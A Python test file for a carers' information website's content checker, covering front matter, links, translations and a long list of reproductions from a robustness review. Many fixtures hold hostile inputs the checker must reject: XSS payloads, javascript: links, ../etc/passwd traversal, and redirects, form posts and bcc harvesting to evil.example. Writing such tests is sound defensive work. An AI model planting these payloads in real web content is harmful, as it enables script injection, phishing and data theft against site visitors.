"""`make check`: one fixture per kind of problem, asserting file, line and message; and the real content."""

from __future__ import annotations

import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from scripts.checks import Project
from scripts.checks.run import run_all
from scripts.content import Page

ROOT = Path(__file__).resolve().parent.parent
TODAY = date(2026, 11, 22)

GUIDE = """---
title: Leaving hospital
description: What to do when the person you care for is coming out of hospital.
type: guide
topics: [hospital-discharge]
audience: [carers]
nations: [england, wales]
last_reviewed: 2026-11-22
next_review: 2027-05-22
sources: [seed-one]
---

# Leaving hospital

## In short {#in-short}

- Ask for a [carer's assessment](../support/carers-assessment.md#what-you-can-do).
- In an emergency call 999.

## What you can do {#what-you-can-do}

1. Read the [NHS website](https://www.nhs.uk/).
"""

ASSESSMENT = """---
title: A carer's assessment
description: How to ask for a carer's assessment.
type: guide
topics: [carers-assessment]
audience: [carers]
nations: [england]
last_reviewed: 2026-11-22
next_review: 2027-05-22
sources: [seed-one]
---

# A carer's assessment

## What you can do {#what-you-can-do}

Ask the council.
"""


def translation(text: str, english: Page, replacements: dict[str, str]) -> str:
    for old, new in replacements.items():
        text = text.replace(old, new)
    return text.replace("sources: [seed-one]\n---", f"sources: [seed-one]\ntranslation:\n  status: draft\n  source_hash: {english.content_hash()}\n---") \
        .replace("sources: []\n---", f"sources: []\ntranslation:\n  status: draft\n  source_hash: {english.content_hash()}\n---")


WELSH = {"Leaving hospital": "Gadael yr ysbyty", "In short": "Yn gryno", "What you can do": "Beth allwch chi ei wneud",
         "Ask for a": "Gofynnwch am", "carer's assessment": "asesiad gofalwr", "In an emergency call": "Mewn argyfwng ffoniwch",
         "Read the": "Darllenwch", "NHS website](https://www.nhs.uk/)": "wefan y GIG](https://www.nhs.uk/){hreflang=en}", "A carer's": "Asesiad", "Ask the council.": "Gofynnwch i'r cyngor."}


@pytest.fixture
def project(tmp_path) -> Project:
    """A small, clean project: two pages in English and Welsh (the other languages left out of LANGUAGES' way)."""
    files = {
        "content_sources/sources.yml": "seed-one: {title: A source, publisher: Someone, date: '2023', kind: report, seed: 000_seed.txt}\n",
        "content_sources/notes/seed-one.md": "# Notes on the seed\n",
        "content_sources/terms/en.yml": "respite:\n  term: respite\n  definition: A break from caring.\n",
        "content_sources/terms/cy.yml": "respite:\n  term: seibiant\n  definition: Seibiant o ofalu.\n  avoid: [resbid]\n",
        "docs/en/transitions/leaving-hospital.md": GUIDE,
        "docs/en/support/carers-assessment.md": ASSESSMENT,
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    for path, text in (("transitions/leaving-hospital.md", GUIDE), ("support/carers-assessment.md", ASSESSMENT)):
        english = Page("en", path, tmp_path / "docs")
        target = tmp_path / "docs" / "cy" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(translation(text, english, WELSH), encoding="utf-8")
    return Project(tmp_path)


def problems(project: Project) -> list[str]:
    """Problems, leaving out the bn and so pages this two-language fixture does not have."""
    from scripts.checks import front_matter

    found = run_all(project)
    # front matter warnings depend on today's date: recheck that family with a fixed date
    found = [p for p in found if "review date" not in p.message] + [
        p for p in front_matter.check(project, today=TODAY) if "review date" in p.message]
    # The plain "call 999" in this fixture keeps the other cases short; phone numbers are tested in test_evidence_checks.py.
    return [str(p) for p in sorted(found) if "translation yet (docs/bn/" not in p.message
            and "translation yet (docs/so/" not in p.message and "termbase is missing" not in p.message
            and "is not a tel: link" not in p.message]


def edit(project: Project, name: str, old: str, new: str) -> None:
    path = project.root / name
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


EN = "docs/en/transitions/leaving-hospital.md"
CY = "docs/cy/transitions/leaving-hospital.md"


def test_the_fixture_is_clean(project):
    assert problems(project) == []


CASES = [
    ("front matter not YAML", EN, "title: Leaving hospital", "title: [Leaving hospital",
     f"{EN}:3: The front matter is not valid YAML (did not find expected ',' or ']'). Check this line: each field is 'name: value'; put a value that contains ': ' in double quotes."),
    ("required field missing", EN, "topics: [hospital-discharge]\n", "",
     f"{EN}:10: The field 'topics' is missing. Add 'topics: ...' to the front matter."),
    ("wrong type", EN, "audience: [carers]", "audience: carers",
     f"{EN}:6: 'audience' must be a list, like 'audience: [first, second]'."),
    ("description too long", EN, "coming out of hospital.", "coming out of hospital. " + "More words here. " * 9,
     f"{EN}:3: The description is 219 characters long. Shorten it to 160 or fewer: search results and link previews cut the rest."),
    ("unknown topic", EN, "[hospital-discharge]", "[hospital]",
     f"{EN}:5: 'hospital' is not a known topic."),
    ("unknown nation", EN, "nations: [england, wales]", "nations: [england, cymru]",
     f"{EN}:7: 'cymru' is not a known nation."),
    ("not a date", EN, "last_reviewed: 2026-11-22", "last_reviewed: 22/11/2026",
     f"{EN}:8: 'last_reviewed: 22/11/2026' is not a date. Write it as year-month-day, like 2026-11-22."),
    ("review date passed", EN, "last_reviewed: 2026-11-22\nnext_review: 2027-05-22", "last_reviewed: 2026-05-01\nnext_review: 2026-11-01",
     f"{EN}:9: warning: The review date (2026-11-01) has passed."),
    ("unknown source", EN, "sources: [seed-one]", "sources: [seed-two]",
     f"{EN}:10: 'seed-two' is not in the evidence registry. Use an id from content_sources/sources.yml, or add the source there first."),
    ("link to missing page", EN, "../support/carers-assessment.md#", "../support/carer-assessment.md#",
     f"{EN}:17: The page ../support/carer-assessment.md does not exist in docs/en/. Check the spelling and the number of ../ in it."),
    ("link to missing anchor", EN, "#what-you-can-do)", "#how-to-ask)",
     f"{EN}:17: The page ../support/carers-assessment.md has no heading with the id #how-to-ask."),
    ("link into another language", EN, "(../support/carers-assessment.md#what-you-can-do)", "(../../cy/support/carers-assessment.md)",
     f"{EN}:17: The link ../../cy/support/carers-assessment.md goes into the cy pages."),
    ("plain http link", EN, "https://www.nhs.uk/", "http://www.nhs.uk/",
     f"{EN}:22: The link http://www.nhs.uk/ uses http://. Use https:// so the connection is secure."),
    ("bare URL", EN, "1. Read the [NHS website](https://www.nhs.uk/).", "1. Read https://www.nhs.uk/ today.",
     f"{EN}:22: Bare web address https://www.nhs.uk/. Give it words a reader understands: [Name of the site](https://www.nhs.uk/)"),
    ("translation missing", "docs/cy/support/carers-assessment.md", None, None,
     "docs/en/support/carers-assessment.md:1: This page has no cy translation yet (docs/cy/support/carers-assessment.md)."),
    ("translation with no English", "docs/cy/extra.md", None, GUIDE,
     "docs/cy/extra.md:1: There is no English page docs/en/extra.md. Write the English page first, or remove this one."),
    ("translation behind", EN, "In an emergency call 999.", "In an emergency call 999 at once.",
     f"{CY}:11: warning: The English page has changed since this translation was made."),
    ("structure differs", CY, "ffoniwch 999", "ffoniwch 998",
     f"{CY}:21: Numbers differ from the English page. Missing: 999. Not in English: 998. Compare with docs/en/transitions/leaving-hospital.md:18 and make them match."),
    ("video id malformed", EN, "## What you can do", "/// video | A carer\n    id: abc\n    duration: 2:48\n\nSummary.\n///\n\n## What you can do",
     f"{EN}:20: Video block \"A carer\": the YouTube id 'abc' is not valid."),
    ("video title missing", EN, "## What you can do", "/// video\n    id: NPENe0gKEOU\n    duration: 2:48\n\nSummary.\n///\n\n## What you can do",
     f"{EN}:20: A video block has no title."),
    ("video duration missing", EN, "## What you can do", "/// video | A carer\n    id: NPENe0gKEOU\n\nSummary.\n///\n\n## What you can do",
     f"{EN}:20: Video block \"A carer\": the duration '' is not valid."),
    ("video unknown option", EN, "## What you can do", "/// video | A carer\n    id: NPENe0gKEOU\n    duration: 2:48\n    start: 10\n\nx\n///\n\n## What you can do",
     f"{EN}:20: Video block \"A carer\": unknown option 'start'. Use only id, duration, transcript, spoken, captions."),
    ("raw script", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<script>alert(1)</script>",
     f"{EN}:20: Raw HTML <script> is not allowed in a page."),
    ("raw iframe", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<iframe src=x></iframe>",
     f"{EN}:20: Raw HTML <iframe> is not allowed in a page. For a video use a /// video block."),
    ("event attribute", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n<span onclick=\"x()\">Hi</span>",
     f"{EN}:20: The HTML attribute onclick= runs a script and is not allowed. Remove it."),
    ("image without alt", EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n![](picture.png)",
     f"{EN}:20: The image picture.png has no alt text."),
    ("heading skips a level", EN, "## What you can do {#what-you-can-do}", "#### What you can do {#what-you-can-do}",
     f"{EN}:20: This heading skips a level (from ## to ####). Make it ###."),
    ("two top-level headings", EN, "## What you can do {#what-you-can-do}", "# What you can do {#what-you-can-do}",
     f"{EN}:20: This is a second top-level heading (#). A page has one: make this one ## or lower."),
    ("not NFC", EN, "- In an emergency call 999.", "- Cafe\u0301 and call 999.",
     f"{EN}:18: This line is not in Unicode NFC form, so search may miss its words."),
    ("duplicate slug", "docs/en/transitions/leaving-hospital/index.md", None, GUIDE,
     "docs/en/transitions/leaving-hospital.md:1: This page has the same web address as docs/en/transitions/leaving-hospital/index.md."),
    ("file name not a slug", "docs/en/transitions/Leaving_Hospital.md", None, GUIDE,
     "docs/en/transitions/Leaving_Hospital.md:1: The name 'Leaving_Hospital' is not lowercase words joined by hyphens."),
    ("termbase term avoided", CY, "asesiad gofalwr", "resbid",
     f"{CY}:20: 'resbid' is not the agreed term. Use 'seibiant' (content_sources/terms/cy.yml)."),
    ("placeholder left", EN, "Read the", "WRITE-ME Read the",
     f"{EN}:22: This line still has the placeholder WRITE-ME."),
]


@pytest.mark.parametrize(("name", "file", "old", "new", "expected"), CASES, ids=[case[0] for case in CASES])
def test_each_kind_of_problem_is_reported_with_file_line_and_fix(project, name, file, old, new, expected):
    target = project.root / file
    if old is None and new is None:
        target.unlink()
    elif old is None:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(new, encoding="utf-8")
    else:
        edit(project, file, old, new)
    found = problems(project)
    assert any(problem.startswith(expected) for problem in found), "\n".join(found)


def test_a_file_that_is_not_utf8_is_reported(project):
    (project.root / EN).write_bytes(GUIDE.encode("utf-8").replace(b"Leaving hospital\n\n##", b"Leaving hospital \xe9\n\n##"))
    assert f"{EN}:13: This file is not saved as UTF-8." in "\n".join(problems(project))


def test_every_problem_is_listed_not_just_the_first(project):
    edit(project, EN, "https://www.nhs.uk/", "http://www.nhs.uk/")
    edit(project, EN, "[hospital-discharge]", "[hospital]")
    edit(project, EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n![](x.png)")
    (project.docs / "en" / "transitions" / "x.png").write_bytes(b"")  # the picture exists; only its alt text is missing
    assert len([p for p in problems(project) if p.startswith(EN)]) == 3


def test_the_command_prints_problems_and_a_count_and_exits_non_zero(project):
    edit(project, EN, "https://www.nhs.uk/", "http://www.nhs.uk/")
    result = subprocess.run([sys.executable, "-m", "scripts.checks", "--root", str(project.root)],
                            cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 1
    assert f"{EN}:22: The link http://www.nhs.uk/ uses http://." in result.stdout
    assert "errors" in result.stdout.splitlines()[-1] or "error," in result.stdout.splitlines()[-1]


def test_warnings_alone_do_not_fail(project):
    edit(project, EN, "In an emergency call 999.", "In an emergency call 999 at once.")
    edit(project, CY, "Mewn argyfwng ffoniwch 999.", "Mewn argyfwng ffoniwch 999 ar unwaith.")
    found = [p for p in run_all(project) if "docs/bn" not in p.message and "docs/so" not in p.message
             and "termbase is missing" not in p.message and "translation yet" not in p.message
             and "is not a tel: link" not in p.message]
    assert found and all(p.severity == "warning" for p in found)


def test_the_real_content_passes_cleanly():
    result = subprocess.run([sys.executable, "-m", "scripts.checks"], cwd=ROOT, capture_output=True, text=True)
    errors = [line for line in result.stdout.splitlines() if ": warning: " not in line]
    assert result.returncode == 0, "\n".join(errors[:40])


def test_new_page_creates_all_four_languages_in_the_standard_shape_and_is_not_publishable_yet(project):
    from scripts.new_page import create

    (project.root / "mkdocs.yml").write_text("nav:\n  - support/carers-assessment.md\n  - About:\n      - about/index.md\n", encoding="utf-8")
    created = create(section="support", title="Money worries", kind="guide", root=project.root, today=TODAY)
    assert [p.relative_to(project.root).as_posix() for p in created] == [
        f"docs/{language}/support/money-worries.md" for language in ("en", "cy", "bn", "so")]
    english = created[0].read_text(encoding="utf-8")
    assert "title: Money worries" in english and "next_review: 2027-05-23" in english
    assert [line for line in english.splitlines() if line.startswith("## ")] == [
        "## In short {#in-short}", "## What happens {#what-happens}", "## What you can do {#what-you-can-do}",
        "## Words that help {#words-that-help}", "## Where to get help {#where-to-get-help}"]
    assert "  - support/money-worries.md" in (project.root / "mkdocs.yml").read_text(encoding="utf-8")
    found = problems(project)
    assert any(p.startswith("docs/en/support/money-worries.md:3: This line still has the placeholder WRITE-ME") for p in found)
    # The translations match the English page's structure already, and record its hash.
    assert not [p for p in found if "differ from the English" in p]


# ---- the robustness report's reproductions (shared/reviews/robustness.md), grouped by family ----------------
# Each is (report id, file, old text, new text, expected "file:line: message" prefix). The fixture guide's body
# starts on line 13; inserted lines go after "- In an emergency call 999." (line 18), so they land on line 20.

def _after_list(text: str) -> tuple[str, str, str]:
    return EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n" + text


REPORT_FRONT_MATTER = [
    ("F06", EN, "last_reviewed: 2026-11-22", "last_reviewed: 2025-02-30", f"{EN}:8: 'last_reviewed: 2025-02-30' is not a date."),
    ("F23", EN, "next_review: 2027-05-22", "next_review: 2027-13-01", f"{EN}:9: 'next_review: 2027-13-01' is not a date."),
    ("F19", EN, "last_reviewed: 2026-11-22", "last_reviewed: 2026-11-22 10:00:00", f"{EN}:8: 'last_reviewed' has a time in it."),
    ("F17", EN, "type: guide", "type: [guide]", f"{EN}:4: 'type: ['guide']' is not a kind of page we know."),
    ("F18", EN, "sources: [seed-one]", "sources: [{id: seed-one}]", f"{EN}:10: 'sources' must be a list"),
    ("F27", EN, "topics: [hospital-discharge]", "topics: [[hospital-discharge]]", f"{EN}:5: 'topics' must be a list"),
    ("F09", EN, "title: Leaving hospital\n", "title: Leaving hospital\ntitle: Something else\n", f"{EN}:3: The field 'title' is given twice (first on line 2)."),
    ("F10", EN, "title: Leaving hospital\n", "title: Leaving hospital\nx: &a [1, 1]\ny: [*a, *a]\n", f"{EN}:3: YAML anchors and aliases (& and *) are not allowed"),
    ("F20", EN, "title: Leaving hospital", 'title: ""', f"{EN}:2: The field 'title' is empty."),
    ("F20b", EN, "description: What to do when the person you care for is coming out of hospital.", 'description: ""', f"{EN}:3: The field 'description' is empty."),
    ("F21", EN, "title: Leaving hospital", "title: Leaving\ufeff hospital", f"{EN}:2: This line has an invisible character (U+FEFF)."),
    ("F26", EN, "sources: [seed-one]", "sources: []", f"{EN}:10: 'sources: []' lists no source"),
    # found in the real content: a source cited twice gave the page two elements with one id (Nu checker)
    ("F26b", EN, "sources: [seed-one]", "sources: [seed-one, seed-one]", f"{EN}:10: 'seed-one' is listed more than once in 'sources'. Keep it once."),
    ("F25", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: ../../../../../etc/passwd", f"{EN}:11: 'template: ../../../../../etc/passwd' is not allowed here."),
    ("F30", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: search.html", f"{EN}:11: 'template: search.html' is not allowed here."),
    # Material's menu shows these; this site's cut-down menu (overrides/partials/nav-item.html) does not
    ("F31", EN, "sources: [seed-one]", "sources: [seed-one]\nicon: material/heart", f"{EN}:11: 'icon:' is not used on this site"),
    ("F31b", EN, "sources: [seed-one]", "sources: [seed-one]\nsubtitle: For carers", f"{EN}:11: 'subtitle:' is not used on this site"),
    ("F28c", EN, "title: Leaving hospital", 'title: "Leaving \\udbea\\udfaa"', f"{EN}:2: The front matter"),
    ("F13", EN, "---\ntitle: Leaving hospital", "\ufeff---\ntitle: Leaving hospital", f"{EN}:1: This file starts with a byte-order mark"),
    ("F22", EN, "sources: [seed-one]\n---\n", "sources: [seed-one]\n\n", f"{EN}:1: The front matter has no closing '---' line"),
    ("F01", EN, "title: Leaving hospital", "title: 123", f"{EN}:2: 'title' must be text."),
    ("F02", EN, "title: Leaving hospital", "title: [a, b]", f"{EN}:2: 'title' must be text."),
    ("F03", EN, "sources: [seed-one]", "sources: seed-one", f"{EN}:10: 'sources' must be a list"),
    ("F04", EN, "nations: [england, wales]", "nations: england", f"{EN}:7: 'nations' must be a list"),
    ("F05", EN, "nations: [england, wales]", "nations: [England, Wales]", f"{EN}:7: 'England' is not a known nation."),
    ("F07", EN, "next_review: 2027-05-22", "next_review: next month", f"{EN}:9: 'next_review: next month' is not a date."),
    ("F08", EN, "next_review: 2027-05-22", "next_review: 2026-01-01", f"{EN}:9: The next review date is not after the last review date."),
    ("F11", EN, "title: Leaving hospital\n", "a0: &a0 [x, x]\na1: &a1 [*a0, *a0]\ntitle: *a1\n", f"{EN}:2: YAML anchors and aliases (& and *) are not allowed"),
    ("F12", EN, "audience: [carers]", "audience:\n\t- carers", f"{EN}:7: The front matter is not valid YAML"),
    ("F15", EN, "---\ntitle: Leaving hospital", "title: Leaving hospital", f"{EN}:1: The page has no front matter."),
    ("F16", EN, None, "", f"{EN}:1: The page has no front matter."),
    ("F28", EN, "title: Leaving hospital", 'title: "Leaving \\ud83d\\udc4b"', f"{EN}:2: The front matter is not valid YAML (found invalid Unicode character escape code)"),
    ("F24", CY, "  status: draft", "  status: reviewed\n  reviewed_by: A Person\n  reviewed_on: 2099-01-01", f"{CY}:11: The translation's reviewed_on date is in the future."),
]

# Markup in front-matter text (shown as text by the build, tests/test_escaping.py; and refused here, as in data files)
REPORT_MARKUP_IN_FIELDS = [
    ("M01", EN, "title: Leaving hospital", "title: 'Money \"worries\" & <b>you</b> {{ config.site_url }}'", f"{EN}:2: 'title' has HTML in it"),
    ("M02", EN, "title: Leaving hospital", "title: 'Advocacy</title><script>alert(document.domain)</script><title>'", f"{EN}:2: 'title' has HTML in it"),
    ("M02b", EN, "title: Leaving hospital", "title: 'Advocacy<script>alert(document.domain)</script>'", f"{EN}:2: 'title' has HTML in it"),
    ("M03", EN, "description: What to do when the person you care for is coming out of hospital.",
     "description: 'Help for carers.\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><x y=\"'", f"{EN}:3: 'description' has HTML in it"),
    ("M04", EN, "sources: [seed-one]\n", "sources: [seed-one]\nplace: '<script>alert(document.domain)</script>'\n", f"{EN}:11: 'place' has HTML in it"),
    ("M05", EN, "title: Leaving hospital", "title: 'Admiral Nurses <img src=x onerror=alert(1)>'", f"{EN}:2: 'title' has HTML in it"),
]

REPORT_BODY = [
    ("B05", EN, "## What you can do {#what-you-can-do}", "## What you can do {#in-short}", f"{EN}:20: The id #in-short is already used by the heading on line 15."),
    ("B03", EN, "## What you can do {#what-you-can-do}", "## What you can do {#what-you-\u200bcan-do}", f"{EN}:20: This line has an invisible character (U+200B)."),
    ("B04", *_after_list("Go to [\u202egro.sreraC\u202c](https://evil.example/)."), f"{EN}:20: This line has an invisible direction control (U+202E)"),
    ("B06", *_after_list("<!-- Hidden from readers: call 0800 000 000 for a fee -->"), f"{EN}:20: An HTML comment (<!-- ... -->) hides text"),
    ("B06b", *_after_list("<!--"), f"{EN}:20: An HTML comment (<!-- ... -->) hides text"),
    ("B07", *_after_list("<plaintext>"), f"{EN}:20: Raw HTML <plaintext> is not allowed in a page."),
    ("B07b", *_after_list("<textarea>"), f"{EN}:20: Raw HTML <textarea> is not allowed in a page."),
    ("B09", *_after_list("```\n\n<script>alert(document.domain)</script>"), f"{EN}:22: Raw HTML <script> is not allowed in a page."),
    ("NFC", EN, "# Leaving hospital", "# Leaving hospital \u0995\u09c7\u09be", f"{EN}:13: This line is not in Unicode NFC form"),
    # found by tests/test_property.py: a NUL passed make check and then failed the build's sanitiser
    ("NUL", *_after_list("Call us\x00 today."), f"{EN}:20: This line has a control character (U+0000)"),
    ("C0", *_after_list("Call us\x0e today."), f"{EN}:20: This line has a control character (U+000E)"),
]

REPORT_VIDEOS = [
    ("V01", *_after_list('/// video | A film\n    id: abc" onload="x\n    duration: 2:48\n\nSummary.\n///'), f"{EN}:20: Video block \"A film\": the YouTube id 'abc\" onload=\"x' is not valid."),
    ("V02", *_after_list('/// video | "><svg/onload=alert(document.domain)>\n    id: NPENe0gKEOU\n    duration: 2:48\n\nSummary.\n///'), f"{EN}:20: The HTML attribute onload= runs a script"),
    ("V03", *_after_list("/// video | A film\n\tid: NPENe0gKEOU\n\tduration: 2:48\n\nSummary.\n///"), f"{EN}:20: Video block \"A film\": the YouTube id '' is not valid."),
    ("V04", *_after_list("/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\n    autoplay: 1\n\nSummary.\n///"), f"{EN}:20: Video block \"A film\": unknown option 'autoplay'."),
    ("V05", *_after_list("/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\n\nSummary."), f"{EN}:20: This video block has no closing line"),
]

REPORT_LINKS = [
    ("L03", *_after_list("[Click](vbscript:msgbox(1))"), f"{EN}:20: A vbscript: address runs a script"),
    ("L06", *_after_list("[Secret](../../../etc/passwd)"), f"{EN}:20: The link ../../../etc/passwd does not point to a page file."),
    ("L06b", *_after_list("[Secret](../../../etc/passwd.md)"), f"{EN}:20: The link ../../../etc/passwd.md points outside the site's pages."),
    ("L07", CY, "(../support/carers-assessment.md#what-you-can-do)", "(../../cy/support/carers-assessment.md)", f"{CY}:20: The link ../../cy/support/carers-assessment.md goes into the cy pages."),
    ("L09", *_after_list("[Click](javascript:alert(document.domain) 'More help')"), f"{EN}:20: A javascript: address runs a script"),
    ("L12", *_after_list("[Carers UK](http://www.carersuk.org/)"), f"{EN}:20: The link http://www.carersuk.org/ uses http://. Use https://"),
    ("L14", *_after_list("![Secret](../../../../etc/passwd)"), f"{EN}:20: The image ../../../../etc/passwd points outside docs/."),
    ("L15", *_after_list("[Click](<javascript:alert(1)>)"), f"{EN}:20: A javascript: address runs a script"),
    ("L01", *_after_list("[Click](javascript:alert(1))"), f"{EN}:20: A javascript: address runs a script"),
    ("L02", *_after_list("[Click](data:text/html;base64,PHNjcmlwdD4=)"), f"{EN}:20: The link data:text/html;base64,PHNjcmlwdD4= is not a page of this site"),
    ("L04", *_after_list("[Click](//evil.example/x)"), f"{EN}:20: The link //evil.example/x is not a page of this site"),
    ("L05", *_after_list("[Email us](mailto:help@carers.example?bcc=harvest@evil.example)"), f"{EN}:20: The link mailto:help@carers.example?bcc=harvest@evil.example adds more than an email address"),
    ("L08", *_after_list("[Click here][r1]\n\n[r1]: javascript:alert(document.domain)"), f"{EN}:22: A javascript: address runs a script"),
    ("L09b", *_after_list("[Click](javascript:alert%28document.domain%29 'More help')"), f"{EN}:20: A javascript: address runs a script"),
    ("L10", *_after_list("Read [this\nguide](javascript:alert(document.domain))"), f"{EN}:21: A javascript: address runs a script"),
    ("L11", *_after_list("![A photo](https://evil.example/pixel.gif)"), f"{EN}:20: The image https://evil.example/pixel.gif is on another website"),
    ("L13", *_after_list("[Our home page](../support/carers-assessment.md){: href=\"javascript:alert(document.domain)\" }"), f"{EN}:20: A javascript: address runs a script"),
    ("L13b", *_after_list("[Our home page](../support/carers-assessment.md){: href=\"https://evil.example/\" }"), f"{EN}:20: The attribute list {{: href=\"https://evil.example/\" }} sets 'href'"),
    ("L16", CY, "[asesiad gofalwr](../support/carers-assessment.md#what-you-can-do)", "[asesiad gofalwr][en]\n\n[en]: ../../en/support/carers-assessment.md\n", f"{CY}:22: The link ../../en/support/carers-assessment.md goes into the en pages."),
]

REPORT_RAW_HTML = [
    ("H01", *_after_list('<img src="x" alt="x" onerror="alert(1)">'), f"{EN}:20: The HTML attribute onerror= runs a script"),
    ("H02", *_after_list('<svg onload="alert(1)"></svg>'), f"{EN}:20: The HTML attribute onload= runs a script"),
    ("H05", *_after_list('<form action="https://evil.example/collect"><input name="nhs"></form>'), f"{EN}:20: Raw HTML <form> is not allowed in a page."),
    ("H06", *_after_list('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
    ("H07", *_after_list('<base href="https://evil.example/">'), f"{EN}:20: Raw HTML <base> is not allowed in a page."),
    ("H08", *_after_list('<object data="x.swf"></object>'), f"{EN}:20: Raw HTML <object> is not allowed in a page."),
    ("H08b", *_after_list('<embed src="x.swf">'), f"{EN}:20: Raw HTML <embed> is not allowed in a page."),
    ("H09", *_after_list('<link rel="stylesheet" href="https://evil.example/x.css">'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
    ("H12", *_after_list("<script>alert(1)</script>"), f"{EN}:20: Raw HTML <script> is not allowed in a page."),
    ("H13", *_after_list('<img src="https://evil.example/pixel.gif" alt="photo">'), f"{EN}:20: Raw HTML <img> is not allowed in a page."),
    ("H14", *_after_list("<link rel=preconnect href=https://evil.example>"), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
    ("H16", *_after_list('*[NHS]: "><svg/onload=alert(document.domain)>'), f"{EN}:20: The HTML attribute onload= runs a script"),
    ("H17", *_after_list('<iframe src="https://evil.example/"></iframe>'), f"{EN}:20: Raw HTML <iframe> is not allowed in a page."),
    ("H03", *_after_list("<svg/onload=alert(document.domain)>"), f"{EN}:20: The HTML attribute onload= runs a script"),
    ("H04", *_after_list('<a href="javascript:alert(document.domain)">Help</a>'), f"{EN}:20: Raw HTML <a> is not allowed in a page. Write a link as [words](page.md)."),
    ("H05b", *_after_list('<form action="//evil.example/collect"><input name="nhs"></form>'), f"{EN}:20: Raw HTML <form> is not allowed in a page."),
    ("H06b", *_after_list('<meta http-equiv="refresh" content="0;url=//evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
    ("H06c", *_after_list('<meta http-equiv="refresh" content="0;url=https&#58;//evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
    ("H07b", *_after_list('<base href="//evil.example/">'), f"{EN}:20: Raw HTML <base> is not allowed in a page."),
    ("H09b", *_after_list('<link rel="stylesheet" href="//evil.example/x.css">'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
    ("H10", *_after_list('<div title=">" onmouseover="alert(document.domain)">Hover here</div>'), f"{EN}:20: The HTML attribute onmouseover= runs a script"),
    ("H11", *_after_list('<img src="x" alt="x"\nonerror="alert(document.domain)">'), f"{EN}:20: The HTML attribute onerror= runs a script"),
    ("H13b", *_after_list('<img src="//evil.example/pixel.gif" alt="photo">'), f"{EN}:20: Raw HTML <img> is not allowed in a page."),
    ("H14b", *_after_list('<link rel=dns-prefetch href=//evil.example>'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
    ("H15", *_after_list('A paragraph.\n{: onclick="alert(document.domain)" }'), f"{EN}:21: The attribute list {{: onclick=\"alert(document.domain)\" }} sets 'onclick'"),
    ("H18", *_after_list("<SCRIPT\n>alert(1)</SCRIPT>"), f"{EN}:20: Raw HTML <script> is not allowed in a page."),
    ("H19", EN, "## What you can do {#what-you-can-do}", '## What you can do {#what-you-can-do onclick="alert(document.domain)" style="display:none"}', f"{EN}:20: The attribute list"),
    ("H20", *_after_list('<ifr&#97;me src="x"></iframe>'), f"{EN}:20: Raw HTML"),
]

REPORT_DATA = [
    ("D04", "scripts/i18n/cy.yml", None, "draft_translation: '<script>alert(document.domain)</script>'\n", "scripts/i18n/cy.yml:1: This text has HTML in it"),
    ("D06", "content_sources/terms/en.yml", "definition: A break from caring.", 'definition: "A break from caring.\\n\\n<script>alert(document.domain)</script>"', "content_sources/terms/en.yml:3: This text has HTML in it"),
    ("D01", "content_sources/terms/en.yml", "A break from caring.", "A break from caring. <script>alert(document.domain)</script>", "content_sources/terms/en.yml:3: This text has HTML in it"),
    ("D02", "content_sources/sources.yml", "kind: report,", "kind: report, url: 'javascript:alert(document.domain)',", "content_sources/sources.yml:1: A javascript: address is not allowed."),
    ("D02b", "content_sources/sources.yml", "kind: report,", "kind: report, url: 'http://www.carersuk.org/',", "content_sources/sources.yml:1: The source address 'http://www.carersuk.org/' must start with https://"),
    ("D03", "content_sources/sources.yml", "title: A source", "title: 'Carers<script>alert(document.domain)</script>'", "content_sources/sources.yml:1: This text has HTML in it"),
    ("D05", "content_sources/terms/cy.yml", "Seibiant o ofalu.", "'<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">'", "content_sources/terms/cy.yml:3: This text has HTML in it"),
]

REPORT_FILES = [
    ("S03", "docs/en/support/carers-assessment/index.md", None, ASSESSMENT, "docs/en/support/carers-assessment.md:1: This page has the same web address as docs/en/support/carers-assessment/index.md."),
    ("S05", "docs/en/support/Money Worries.md", None, ASSESSMENT, "docs/en/support/Money Worries.md:1: The name 'Money Worries' is not lowercase words joined by hyphens. Rename the file, e.g. money-worries.md"),
    ("S06", EN, None, GUIDE.replace("hospital.", "hospital, café.").encode("latin-1"), f"{EN}:3: This file is not saved as UTF-8."),
    ("S01", "docs/en/help.html", None, "<!doctype html><title>Help</title><script>alert(document.domain)</script>", "docs/en/help.html:1: Files of this type are not allowed in docs/"),
    ("S07", "docs/en/assets/logo.svg", None, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "docs/en/assets/logo.svg:1: Files of this type are not allowed in docs/"),
]

REPORT_CASES = REPORT_FRONT_MATTER + REPORT_MARKUP_IN_FIELDS + REPORT_BODY + REPORT_VIDEOS + REPORT_LINKS + REPORT_RAW_HTML + REPORT_DATA + REPORT_FILES


def run_check(project: Project, capsys) -> tuple[int, list[str]]:
    """`make check` in process: its exit code and printed lines."""
    from scripts.checks.__main__ import main

    code = main(["--root", str(project.root)])
    return code, capsys.readouterr().out.splitlines()


@pytest.mark.parametrize(("report_id", "file", "old", "new", "expected"), REPORT_CASES, ids=[case[0] for case in REPORT_CASES])
